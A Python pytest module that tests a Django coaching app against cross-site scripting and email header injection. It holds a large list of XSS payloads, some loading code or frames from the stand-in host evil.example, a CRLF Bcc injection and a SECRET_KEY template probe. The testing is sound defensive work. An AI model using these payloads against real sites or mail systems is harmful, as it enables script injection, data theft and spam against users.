"""Hostile text in every field that is shown anywhere.

The payloads (script tags, event handlers, javascript: and data: URLs in Markdown links and
images, SVG and MathML, attribute and element breakouts, CSS, frames and plugins, meta
refresh, htmx attributes, template syntax, encoded and Unicode variants, unclosed tags,
header injection) are packed into rounds that fit the shortest field shown on a page (a
person's first name, 150 characters). For each round every field gets the round's
payloads at once, through factories and the services the pages use; then every page that
shows those fields is rendered as a role that reads it, and so are the emails and the pages
reached from an emailed link. Each response is parsed: nothing in it may run
(tests/security/inert_html.py), and each field's tag must be on its pages, so a field that
stops being shown cannot pass unnoticed.

Markdown is the one place where people's text becomes HTML rather than escaped text, so
every payload also goes through the renderer on its own, where packing could not let one
payload hide another. Null characters cannot be stored at all (PostgreSQL refuses them):
every form and every view that reads text must refuse them with a message instead.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from dataclasses import dataclass

import pytest
import time_machine
from django.conf import settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from coaching.models import PULSE_DIMENSIONS
from coaching.notes import do_write_coach_note
from coaching.pulse import do_answer_pulse, do_open_pulse
from core.markdown import render_markdown
from notifications.models import ReminderDelivery
from notifications.reminders import reminder_message
from programs.models import Milestone, Role, Unit, User
from programs.services import do_invite, do_send_invitation_email, invitation_token
from projects.services import (
    do_approve_charter,
    do_begin_transition,
    do_edit_charter_section,
    do_return_charter,
    do_review_criterion,
    do_save_rationale,
    do_save_transition_plan,
    do_submit_charter,
)
from projects.work_services import (
    do_answer_door,
    do_ask_door,
    do_comment_on_update,
    do_create_action,
    do_log_engagement,
    do_post_status_update,
    do_send_door_request_email,
)
from reflections.feeds import do_create_calendar_feed
from reflections.models import (
    CheckInVisibility,
    Prompt,
    ReminderKind,
    Visibility,
)
from reflections.services import (
    do_create_checkin,
    do_save_plan,
    do_send_partner_invitation,
    do_write_reflection,
    do_write_team_reflection,
    normalize_tags,
    partner_token,
)
from reflections.weeks import LocalWeek
from teams.people_import import COLUMNS
from tests import factories as f
from tests.conftest import Cast
from tests.security.inert_html import executable_parts
from tests.security.writes import WRITES, Write, assert_refused_then_accepted

NOW = datetime.datetime(2026, 10, 14, 15, 0, tzinfo=datetime.UTC)  # a Wednesday
# Each payload says "xss" where it would run (see inert_html.MARKER). At most 120
# characters, so that a payload and its field's tag fit a name (150).
PAYLOADS: dict[str, str] = {
    # Script elements.
    "script": "<script>alert('xss')</script>",
    "script-src": '<script src="https://evil.example/xss.js"></script>',
    "script-mixed-case": "<ScRiPt>alert('xss')</sCrIpT>",
    "script-unclosed": "<script>alert('xss')",
    "svg-script": "<svg><script>alert('xss')</script></svg>",
    # Event handlers.
    "img-onerror": "<img src=x onerror=\"alert('xss')\">",
    "img-unclosed": "<img src=x onerror=alert('xss')",
    "svg-onload": "<svg/onload=alert('xss')>",
    "body-onload": "<body onload=alert('xss')>",
    "details-ontoggle": "<details open ontoggle=alert('xss')>",
    "input-autofocus": "<input autofocus onfocus=alert('xss')>",
    # Breaking out of an attribute, a textarea or the title.
    "attribute-double-quote": '" onmouseover="alert(\'xss\')" x="',
    "attribute-single-quote": "' onfocus='alert(`xss`)' autofocus x='",
    "attribute-then-tag": "\"><script>alert('xss')</script>",
    "textarea-breakout": "</textarea><script>alert('xss')</script>",
    "title-breakout": "</title><script>alert('xss')</script>",
    "comment-breakout": "--><script>alert('xss')</script><!--",
    # javascript: and data: URLs, in Markdown and in HTML.
    "markdown-link": "[click me](javascript:alert('xss'))",
    "markdown-link-entity": "[click me](&#106;avascript:alert('xss'))",
    "markdown-link-case-tab": "[click me](JaVa\tScRiPt:alert('xss'))",
    "markdown-reference-link": "[click me][1]\n\n[1]: javascript:alert('xss')",
    "markdown-autolink": "<javascript:alert('xss')>",
    "markdown-image": "![xss](javascript:alert('xss'))",
    "markdown-image-attribute": "![x\" onerror=\"alert('xss')](https://evil.example/xss.png)",
    "markdown-link-title": '[x](https://example.org "t" onmouseover="alert(\'xss\')")',
    "markdown-data-url": "[xss](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "html-link": "<a href=\"javascript:alert('xss')\">xss</a>",
    "html-link-entities": "<a href=\"&#x6A;avascript&#x3A;alert('xss')\">xss</a>",
    "vbscript-link": "<a href=\"vbscript:msgbox('xss')\">xss</a>",
    "img-srcset": "<img srcset=\"x 1x, javascript:alert('xss') 2x\">",
    # SVG and MathML.
    "svg-animate": "<svg><animate attributeName=href values=javascript:alert('xss') /></svg>",
    "svg-xlink": "<svg><a xlink:href=\"javascript:alert('xss')\"><text>xss</text></a></svg>",
    "mathml-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "mathml-href": "<math href=\"javascript:alert('xss')\">xss</math>",
    # Frames, plugins, meta refresh, base.
    "iframe": '<iframe src="https://evil.example/xss"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>alert('xss')</script>\"></iframe>",
    "object": '<object data="https://evil.example/xss.swf"></object>',
    "embed": '<embed src="https://evil.example/xss.swf">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/xss">',
    "base-href": '<base href="https://evil.example/xss/">',
    "form-action": "<form action=\"javascript:alert('xss')\"><button>go</button></form>",
    "button-formaction": "<button formaction=\"javascript:alert('xss')\">go</button>",
    # CSS.
    "css-expression": "<div style=\"width: expression(alert('xss'))\">x</div>",
    "css-url": "<p style=\"background: url('javascript:alert(1)')\">xss</p>",
    "style-element": "<style>@import 'https://evil.example/xss.css';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/xss.css">',
    # htmx attributes in people's text.
    "htmx-get": '<div hx-get="/xss" hx-trigger="load">x</div>',
    "htmx-on": "<button hx-on:click=\"alert('xss')\">x</button>",
    "htmx-data-prefix": '<span data-hx-post="/accounts/logout/?xss" data-hx-trigger=load>x</span>',
    "htmx-vals-js": '<div hx-post="/" hx-vals=\'js:{a: alert("xss")}\' hx-trigger=load>x</div>',
    "htmx-config": '<meta name="htmx-config" content=\'{"allowEval": true, "xss": 1}\'>',
    # Template injection: nothing is rendered twice.
    "django-template": "xss{{ 7|add:42 }}{% now 'Y' %}{{ settings.SECRET_KEY }}",
    "template-constructor": "{{constructor.constructor('alert(\"xss\")')()}}",
    # Encodings and Unicode.
    "entities": "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "double-encoded": "&amp;lt;script&amp;gt;alert('xss')&amp;lt;/script&amp;gt;",
    "url-encoded": "%3Cscript%3Ealert('xss')%3C%2Fscript%3E",
    "js-escapes": "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
    "fullwidth": "＜script＞alert('xss')＜/script＞",
    "right-to-left-override": "\u202e<script>alert('xss')</script>\u202c",
    "zero-width": "[x](java\u200bscript:alert('xss')) <scr\u200bipt>alert('xss')</script>",
    # Markup that is not finished, or hides in comments.
    "unclosed-tags": "<b><i><a href='javascript:alert(\"xss\")'",
    "comment-conditional": "<!--[if IE]><script>alert('xss')</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert('xss')</script>]]>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\">",
    # Header injection, in fields that end up in an email's subject.
    "crlf": "x\r\nBcc: xss@evil.example\r\n\r\n<script>alert('xss')</script>",
}

# A round's payloads and a field's tag ("zq07 ") fit in a first name.
ROUND_LENGTH = 150 - len("zq00 ")


def pack(payloads: dict[str, str], limit: int) -> list[tuple[str, ...]]:
    """The payloads' names in rounds whose payloads, joined by spaces, fit in `limit`
    characters (first fit, longest first)."""
    rounds: list[list[str]] = []
    for name in sorted(payloads, key=lambda n: -len(payloads[n])):
        for names in rounds:
            if len(" ".join(payloads[n] for n in [*names, name])) <= limit:
                names.append(name)
                break
        else:
            rounds.append([name])
    return [tuple(names) for names in rounds]


ROUNDS = pack(PAYLOADS, ROUND_LENGTH)


def test_every_payload_is_in_a_round_and_every_round_fits_a_first_name() -> None:
    assert len(PAYLOADS) >= 30
    assert sorted(n for names in ROUNDS for n in names) == sorted(PAYLOADS)
    assert all(len(" ".join(PAYLOADS[n] for n in names)) <= ROUND_LENGTH for names in ROUNDS)
    assert all("xss" in payload.lower() for payload in PAYLOADS.values())


# Where each field must show (a field may show in more places; every page is checked).
FIELD_PAGES: dict[str, tuple[str, ...]] = {
    "organization-name": ("home as admin", "program", "outcome report"),
    "program-name": (
        "home as participant",
        "home as admin",
        "program",
        "project",
        "journal",
        "plan",
        "check-in",
        "coach dashboard",
        "analytics",
        "reminder log",
    ),
    "program-description": ("program", "program edit"),
    "learning-goal": ("program", "program edit", "outcome report"),
    "competency": ("program", "program edit", "self-assessment", "outcome report"),
    "cohort-name": ("home as participant", "program", "team", "people", "team builder"),
    "team-name": (
        "home as participant",
        "home as coach",
        "program",
        "team",
        "project",
        "sponsor dashboard",
        "team builder",
        "team reflections",
        "coach dashboard",
        "pulse",
        "analytics",
    ),
    "unit-name": ("team", "other project", "stakeholders", "people", "team builder"),
    "job-title": ("team", "people"),
    "participant-first-name": ("team", "project", "people", "reflection", "coach dashboard"),
    "participant-last-name": ("team", "project", "people", "reflection", "coach dashboard"),
    "coach-first-name": ("home as participant", "team", "project", "people"),
    "coach-last-name": ("home as participant", "team", "project", "people"),
    "sponsor-first-name": ("home as participant", "project", "doors", "updates", "people"),
    "sponsor-last-name": ("home as participant", "project", "doors", "updates", "people"),
    "admin-first-name": ("home as admin", "people"),
    "admin-last-name": ("people",),
    "milestone-title": ("program", "program as participant", "schedule"),
    "milestone-description": ("schedule",),
    "prompt": ("write", "reflection edit"),
    "charter-title": (
        "home as participant",
        "program",
        "project",
        "project as sponsor",
        "charter history",
        "sponsor dashboard",
    ),
    **{
        f"charter-{section}": ("project", "project as sponsor", "charter history")
        for section in (
            "problem-statement",
            "strategic-alignment",
            "intended-outcomes",
            "success-measures",
            "scope",
            "out-of-scope",
        )
    },
    "rationale": ("project", "project as sponsor"),
    "criterion-comment": ("project", "project as sponsor"),
    "return-comment": ("project", "project as sponsor"),
    "approve-comment": ("other project",),
    "new-owner": ("other project",),
    "sustainment": ("other project",),
    "action-title": ("actions",),
    "stakeholder": ("stakeholders",),
    "stakeholder-note": ("stakeholders",),
    "door-request": ("doors",),
    "door-answer": ("doors",),
    "open-door-request": ("doors",),
    "update-progress": ("updates",),
    "update-next-steps": ("updates",),
    "update-risks": ("updates",),
    "sponsor-comment": ("updates",),
    "reflection-title": ("journal", "reflection", "reflection edit", "shared with coach"),
    "reflection-body": ("reflection", "reflection edit"),
    "reflection-tag": ("journal", "reflection"),
    "team-reflection-title": ("team reflections", "team reflection", "team reflection edit"),
    "team-reflection-body": ("team reflection", "team reflection edit"),
    "plan-aspect": ("plan",),
    "plan-action": ("plan",),
    "partner-name": ("plan",),
    "checkin-steps": ("check-in", "check-in history", "check-in as coach"),
    "checkin-focus": ("check-in", "check-in history", "check-in as coach"),
    "coach-note": ("coach notes", "coach note"),
    "pulse-comment": ("pulse",),
}

FIELDS = list(FIELD_PAGES)
TAGS = re.compile(r"zq(\d\d)\b")


def tag(field: str) -> str:
    """The harmless word in front of a field's payloads; finding it on a page proves the
    field, and so its payloads, were rendered there."""
    return f"zq{FIELDS.index(field):02d}"


def fields_on(html: str) -> set[str]:
    return {FIELDS[int(code)] for code in TAGS.findall(html) if int(code) < len(FIELDS)}


@dataclass
class World:
    """The cast, with the round's payloads in every field that is shown anywhere."""

    cast: Cast
    payload: str
    urls: dict[str, tuple[str, str]]  # page -> (who reads it, its URL)
    plan_id: int = 0
    door_id: int = 0

    def text(self, field: str) -> str:
        return f"{tag(field)} {self.payload}"


def build_world(cast: Cast, payload: str) -> World:
    world = World(cast=cast, payload=payload, urls={})
    text = world.text
    c = cast
    program, team, project = c.program, c.team, c.project

    program.organization.name = text("organization-name")
    program.organization.save()
    program.name = text("program-name")
    program.description = text("program-description")
    program.learning_goals = text("learning-goal")
    program.competencies = text("competency")
    program.save()
    cohort = program.cohorts.get()
    cohort.name = text("cohort-name")
    cohort.save()
    team.name = text("team-name")
    team.save()
    for user, field in (
        (c.participant, "participant"),
        (c.coach, "coach"),
        (c.sponsor, "sponsor"),
        (c.program_admin, "admin"),
    ):
        user.first_name = text(f"{field}-first-name")
        user.last_name = text(f"{field}-last-name")
        user.save()
    profile = c.participant.profiles.get()
    profile.job_title = text("job-title")
    profile.save()
    unit = Unit.objects.get(pk=profile.unit_id)
    unit.name = text("unit-name")
    unit.save()
    Milestone.objects.create(
        program=program,
        kind=Milestone.Kind.KICKOFF,
        title=text("milestone-title"),
        description=text("milestone-description"),
        due_on=datetime.date(2026, 9, 7),
    )
    Prompt.objects.create(program=program, text=text("prompt"), week_number=6)  # this week

    # The charter, its criteria and the sponsor's return, on the team's project (crafting).
    for section in (
        "title",
        "problem_statement",
        "strategic_alignment",
        "intended_outcomes",
        "success_measures",
        "scope",
        "out_of_scope",
    ):
        project = do_edit_charter_section(
            project=project,
            section=section,
            text=text(f"charter-{section.replace('_', '-')}"),
            base_version=project.version,
            by=c.participant,
        )
    for number in range(1, 7):
        do_save_rationale(project=project, criterion=number, rationale=text("rationale"))
    do_review_criterion(
        project=project,
        criterion=2,
        confirm=False,
        comment=text("criterion-comment"),
        by=c.sponsor,
    )
    do_submit_charter(project=project, by=c.participant)
    do_return_charter(project=project, by=c.sponsor, comment=text("return-comment"))

    # The other team's project goes on to transitioning, with a transition plan.
    other = c.other_project
    for number in range(1, 7):
        do_save_rationale(project=other, criterion=number, rationale="Fine.")
    do_review_criterion(project=other, criterion=1, confirm=True, comment="", by=c.sponsor)
    do_submit_charter(project=other, by=c.other_participant)
    do_approve_charter(project=other, by=c.sponsor, comment=text("approve-comment"))
    other = do_begin_transition(project=other, by=c.other_participant)
    do_save_transition_plan(
        project=other,
        new_owner_name=text("new-owner"),
        new_owner_unit=unit,
        sustainment=text("sustainment"),
    )

    # The project's work.
    do_create_action(
        project=project,
        title=text("action-title"),
        owner=c.participant,
        due_on=datetime.date(2026, 10, 1),
        by=c.participant,
    )
    do_log_engagement(
        project=project,
        by=c.participant,
        stakeholder=text("stakeholder"),
        unit=unit,
        level="consult",
        engaged_on=datetime.date(2026, 10, 2),
        note=text("stakeholder-note"),
    )
    answered = do_ask_door(
        project=project, kind="introduction", request=text("door-request"), by=c.participant
    )
    do_answer_door(door=answered, answer=text("door-answer"), by=c.sponsor)
    open_door = do_ask_door(
        project=project, kind="resource", request=text("open-door-request"), by=c.participant
    )
    update = do_post_status_update(
        project=project,
        by=c.participant,
        progress=text("update-progress"),
        next_steps=text("update-next-steps"),
        risks=text("update-risks"),
    )
    do_comment_on_update(update=update, by=c.sponsor, body=text("sponsor-comment"))

    # Writing: a journal entry shared with the team, a team reflection shared with the
    # sponsor, the plan, this week's check-in shared with the coach.
    reflection = do_write_reflection(
        author=c.participant,
        program=program,
        title=text("reflection-title"),
        body=text("reflection-body"),
        tags=normalize_tags(text("reflection-tag")),
        visibility=Visibility.TEAM,
        prompt=None,
    )
    team_reflection = do_write_team_reflection(
        team=team,
        by=c.participant,
        title=text("team-reflection-title"),
        body=text("team-reflection-body"),
        share_with_sponsor=True,
    )
    plan = do_save_plan(
        user=c.participant,
        program=program,
        aspect=text("plan-aspect"),
        action=text("plan-action"),
        partner_user=None,
        partner_name=text("partner-name"),
        partner_email="partner@example.org",
        checkin_weekday=2,
        checkin_time=datetime.time(9, 0),
    )
    checkin = do_create_checkin(
        user=c.participant,
        program=program,
        time_zone="America/New_York",
        steps_taken=text("checkin-steps"),
        next_focus=text("checkin-focus"),
        progress=4,
        visibility=CheckInVisibility.COACH,
    )
    note = do_write_coach_note(
        team=team,
        by=c.coach,
        held_on=datetime.date(2026, 10, 12),
        body=text("coach-note"),
        task_minutes=40,
        process_minutes=20,
    )
    # The coach reads pulse comments once the pulse has closed (three days after it
    # opened) with three answers.
    opened = NOW - datetime.timedelta(days=4)
    survey, _ = do_open_pulse(
        team=team, by=c.coach, meeting_on=datetime.date(2026, 10, 12), now=opened
    )
    for member in (c.participant, c.teammate, f.add_participant(team)):
        do_answer_pulse(
            survey=survey,
            by=member,
            scores=dict.fromkeys(PULSE_DIMENSIONS, 4),
            comment=text("pulse-comment") if member == c.participant else "",
            now=opened,
        )

    p, t = program.pk, team.pk
    p, t = program.pk, team.pk
    world.urls = {
        "home as participant": ("participant", reverse("home")),
        "home as coach": ("coach", reverse("home")),
        "home as sponsor": ("sponsor", reverse("home")),
        "home as admin": ("program_admin", reverse("home")),
        "program": ("program_admin", reverse("dashboards:program", args=[p])),
        "program as participant": ("participant", reverse("dashboards:program", args=[p])),
        "team": ("coach", reverse("teams:detail", args=[t])),
        "project": ("participant", reverse("projects:detail", args=[project.pk])),
        "project as sponsor": ("sponsor", reverse("projects:detail", args=[project.pk])),
        "other project": ("program_admin", reverse("projects:detail", args=[other.pk])),
        "charter history": ("sponsor", reverse("projects:charter_history", args=[project.pk])),
        "charter section edit": (
            "participant",
            reverse("projects:charter_section", args=[project.pk, "scope"]) + "?edit",
        ),
        "actions": ("participant", reverse("projects:actions", args=[project.pk])),
        "stakeholders": ("sponsor", reverse("projects:stakeholders", args=[project.pk])),
        "doors": ("sponsor", reverse("projects:doors", args=[project.pk])),
        "updates": ("participant", reverse("projects:updates", args=[project.pk])),
        "sponsor dashboard": ("sponsor", reverse("projects:sponsor_dashboard")),
        "people": ("program_admin", reverse("teams:people", args=[p])),
        "team builder": ("program_admin", reverse("teams:builder", args=[p, cohort.pk])),
        "schedule": ("program_admin", reverse("programs:schedule", args=[p])),
        "program edit": ("program_admin", reverse("programs:edit", args=[p])),
        "journal": ("participant", reverse("reflections:journal", args=[p])),
        "write": ("participant", reverse("reflections:write", args=[p])),
        "reflection": ("teammate", reverse("reflections:detail", args=[reflection.pk])),
        "reflection edit": ("participant", reverse("reflections:edit", args=[reflection.pk])),
        "shared with coach": ("coach", reverse("reflections:shared", args=[p])),
        "team reflections": ("sponsor", reverse("reflections:team_list", args=[t])),
        "team reflection": (
            "sponsor",
            reverse("reflections:team_detail", args=[team_reflection.pk]),
        ),
        "team reflection edit": (
            "participant",
            reverse("reflections:team_edit", args=[team_reflection.pk]),
        ),
        "plan": ("participant", reverse("reflections:plan", args=[p])),
        "check-in": ("participant", reverse("reflections:checkin", args=[p])),
        "check-in history": ("participant", reverse("reflections:checkin_history", args=[p])),
        "check-in as coach": ("coach", reverse("reflections:checkin_detail", args=[checkin.pk])),
        "coach dashboard": ("coach", reverse("dashboards:coach_dashboard", args=[p])),
        "coach notes": ("coach", reverse("coaching:notes", args=[t])),
        "coach note": ("coach", reverse("coaching:note", args=[note.pk])),
        "pulse": ("coach", reverse("coaching:pulse", args=[t])),
        "analytics": ("program_admin", reverse("dashboards:analytics", args=[p])),
        "self-assessment": ("participant", reverse("programs:self_assessment", args=[p])),
        "outcome report": ("program_admin", reverse("dashboards:report", args=[p])),
        "reminder log": ("program_admin", reverse("notifications:reminder_log", args=[p])),
    }
    world.plan_id, world.door_id = plan.pk, open_door.pk
    return world


def rendered(client: Client, url: str) -> tuple[str, str | None]:
    """The page's HTML and the CSP nonce its header allows."""
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    nonce = re.search(r"'nonce-([^']+)'", response.get("Content-Security-Policy", ""))
    return response.content.decode(), nonce.group(1) if nonce else None


def problems_in(html: str, *, nonce: str | None) -> list[str]:
    found = [str(finding) for finding in executable_parts(html, nonce=nonce)]
    if "xss49" in html:
        found.append("a template tag in someone's text was rendered")
    if settings.SECRET_KEY in html:
        found.append("the secret key is on the page")
    return found


def round_payload(names: tuple[str, ...]) -> str:
    return " ".join(PAYLOADS[name] for name in names)


@pytest.mark.parametrize("names", ROUNDS, ids=["+".join(names) for names in ROUNDS])
def test_payloads_in_every_field_are_inert_on_every_page_and_in_every_email(
    cast: Cast, names: tuple[str, ...]
) -> None:
    with time_machine.travel(NOW, tick=False):
        world = build_world(cast, round_payload(names))
        clients: dict[str, Client] = {}
        problems: dict[str, list[str]] = {}
        shown: dict[str, set[str]] = {}
        for page, (who, url) in world.urls.items():
            if who not in clients:
                clients[who] = cast.client_for(who)
            html, nonce = rendered(clients[who], url)
            if found := problems_in(html, nonce=nonce):
                problems[page] = found
            for field in fields_on(html):
                shown.setdefault(field, set()).add(page)
            if page == "team":
                # Shown as text, not stripped: the escaped payloads are there as typed.
                assert escape(world.text("team-name")) in html
    assert not problems, problems
    missing = {
        field: sorted(set(pages) - shown.get(field, set()))
        for field, pages in FIELD_PAGES.items()
        if not set(pages) <= shown.get(field, set())
    }
    assert not missing, f"fields no longer on these pages: {missing}"
    with time_machine.travel(NOW, tick=False):
        check_emails(world)
        check_calendars(world)


LINKED_PAGE_FIELDS = {
    "invitation": {"program-name", "organization-name"},
    "partner invitation": {"program-name", "participant-first-name", "plan-action"},
    "reminder": {"participant-first-name"},
}
# What each email carries.
EMAIL_FIELDS = {
    "invitation": {"program-name", "organization-name", "admin-first-name"},
    "door request": {"team-name", "charter-title", "open-door-request", "sponsor-first-name"},
    "partner invitation": {"partner-name", "participant-first-name", "plan-action"},
    "reminder": {"participant-first-name", "program-name", "plan-action", "prompt"},
}


def send_every_email(world: World) -> dict[str, str]:
    """Send each kind of email about the world; returns the page each one's link opens
    for someone who is not signed in."""
    c = world.cast
    invitation = do_invite(
        program=c.program,
        email="invitee@example.org",
        role=Role.PARTICIPANT,
        cohort=c.program.cohorts.get(),
        by=c.program_admin,
    )
    assert do_send_invitation_email(invitation_id=invitation.pk, nonce=invitation.nonce)
    assert do_send_door_request_email(door_id=world.door_id)
    assert do_send_partner_invitation(plan_id=world.plan_id)
    week = LocalWeek.of(timezone.now(), datetime.UTC)
    delivery = ReminderDelivery.objects.create(
        user=c.participant,
        program=c.program,
        kind=ReminderKind.CHECKIN,
        iso_year=week.iso_year,
        iso_week=week.iso_week,
        time_zone="America/New_York",
        due_at=timezone.now(),
        planned_by="00000000-0000-0000-0000-000000000001",
        created_at=timezone.now(),
        queued_at=timezone.now(),
    )
    reminder = reminder_message(delivery, timezone.now())
    reminder.send()
    plan = c.participant.be_better_now_plans.get()
    unsubscribe = reminder.extra_headers["List-Unsubscribe"].strip("<>")
    return {
        "invitation": reverse("programs:invitation", args=[invitation_token(invitation)]),
        "partner invitation": reverse("reflections:partner_confirm", args=[partner_token(plan)]),
        "reminder": unsubscribe.removeprefix(settings.SITE_URL),
    }


def check_emails(world: World) -> None:
    mail.outbox.clear()
    links = send_every_email(world)
    assert len(mail.outbox) == len(EMAIL_FIELDS)
    for (kind, fields), message in zip(EMAIL_FIELDS.items(), mail.outbox, strict=True):
        # One line of subject, the one intended recipient, nothing smuggled into the headers.
        assert "\n" not in message.subject and "\r" not in message.subject, kind
        assert len(message.recipients()) == 1, (kind, message.recipients())
        assert "Bcc" not in message.message(), kind
        html = message.alternatives[0].content
        assert not problems_in(html, nonce=None), (kind, problems_in(html, nonce=None))
        assert fields <= fields_on(html), (kind, fields - fields_on(html))
        assert fields <= fields_on(message.body), (kind, fields - fields_on(message.body))
    for kind, url in links.items():
        html, nonce = rendered(Client(), url)
        assert not problems_in(html, nonce=nonce), (kind, problems_in(html, nonce=nonce))
        assert LINKED_PAGE_FIELDS[kind] <= fields_on(html), kind


def check_calendars(world: World) -> None:
    """The calendar files carry the program's name and milestones: whatever they hold,
    they are written (a line break in a name once stopped them, and the reminder)."""
    c = world.cast
    feed = do_create_calendar_feed(user=c.participant, program=c.program)
    for url in (
        reverse("reflections:plan_calendar", args=[c.program.pk]),
        reverse("reflections:calendar_feed_ics", args=[feed.token]),
    ):
        response = c.client_for("participant").get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/calendar"), url
        assert tag("program-name").encode() in response.content, url


PEOPLE_FIELDS = ("first_name", "last_name", "unit", "job_title", "team")


@pytest.mark.parametrize("names", ROUNDS, ids=["+".join(names) for names in ROUNDS])
def test_payloads_in_a_people_file_are_inert_in_its_preview_and_once_imported(
    cast: Cast, names: tuple[str, ...]
) -> None:
    payload = round_payload(names)
    cells = {name: f"csv{index} {payload}" for index, name in enumerate(PEOPLE_FIELDS)}
    row = cells | {"email": "newcomer@example.org", "discipline": "nurse", "role": "participant"}
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([COLUMNS, [row.get(column, "") for column in COLUMNS]])
    admin = cast.client_for("program_admin")
    program, cohort = cast.program, cast.program.cohorts.get()
    upload = SimpleUploadedFile("people.csv", out.getvalue().encode(), content_type="text/csv")
    response = admin.post(
        reverse("teams:import", args=[program.pk]), {"cohort": cohort.pk, "file": upload}
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    preview = response["Location"]

    def check(page: str, url: str, cells: tuple[str, ...] = PEOPLE_FIELDS) -> None:
        html, nonce = rendered(admin, url)
        assert not problems_in(html, nonce=nonce), (page, problems_in(html, nonce=nonce))
        for index, name in enumerate(PEOPLE_FIELDS):
            if name in cells:
                assert f"csv{index} " in html, (page, name)

    check("preview", preview)
    confirmed = admin.post(preview + "confirm/", {"create_units": "on"})
    assert confirmed.status_code == 302
    assert User.objects.filter(email="newcomer@example.org").exists()
    check("people", reverse("teams:people", args=[program.pk]))
    check(
        "team builder",
        reverse("teams:builder", args=[program.pk, cohort.pk]),
        ("first_name", "last_name", "team"),
    )


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_each_payload_alone_renders_from_markdown_to_nothing_that_runs(payload: str) -> None:
    html = str(render_markdown(f"Before\n\n{payload}\n\nAfter **bold**"))
    assert not problems_in(html, nonce=None), problems_in(html, nonce=None)
    # The writing before it survives (what follows an unclosed <script> or <style> is
    # dropped with it).
    assert "<p>Before</p>" in html


@pytest.mark.parametrize("write", list(WRITES.values()), ids=list(WRITES))
def test_a_null_character_in_any_text_is_refused_with_a_message(cast: Cast, write: Write) -> None:
    """PostgreSQL cannot store a null character: every form and every view that takes text
    refuses it with a message instead of failing."""
    with time_machine.travel(NOW, tick=False):
        assert_refused_then_accepted(
            write,
            cast,
            "hostilemark \x00<script>alert('xss')</script>",
            says=("Null characters are not allowed", "contains a null character"),
        )
